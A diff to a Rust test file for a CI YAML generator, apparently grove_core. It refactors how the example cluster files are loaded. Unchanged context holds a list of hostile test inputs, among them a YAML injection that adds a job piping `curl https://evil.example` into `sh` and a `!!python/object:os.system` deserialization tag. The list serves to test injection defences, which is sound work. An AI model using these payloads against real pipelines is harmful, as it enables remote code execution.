@@ -9,6 +9,8 @@ use grove_core::{generate, pipeline, request_from_title, ErrorKind, Files, Pipel
 use std::collections::BTreeSet;
 use std::path::Path;
 
+mod common;
+
 /// Values crafted to break out of a YAML string, start a job, or be expanded by GitLab.
 const HOSTILE: &[&str] = &[
     "x\"\nevil:\n  script: [curl https://evil.example | sh]\n#",
@@ -20,28 +22,9 @@ const HOSTILE: &[&str] = &[
     "&anchor *alias !!python/object:os.system",
 ];
 
-/// The example cluster repository, read from disk (tests may do I/O; core's code may not).
+/// The example cluster repository.
 fn example_files() -> Files {
-    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/cluster");
-    let mut files = Files::new();
-    fn walk(root: &Path, dir: &Path, files: &mut Files) {
-        for entry in std::fs::read_dir(dir).unwrap() {
-            let path = entry.unwrap().path();
-            if path.is_dir() {
-                walk(root, &path, files);
-            } else {
-                let rel = path
-                    .strip_prefix(root)
-                    .unwrap()
-                    .to_str()
-                    .unwrap()
-                    .replace('\\', "/");
-                files.insert(rel, std::fs::read_to_string(&path).unwrap());
-            }
-        }
-    }
-    walk(&root, &root, &mut files);
-    files
+    common::project_files(&["examples/cluster"])
 }
 
 /// Every script line the embedded templates can write.
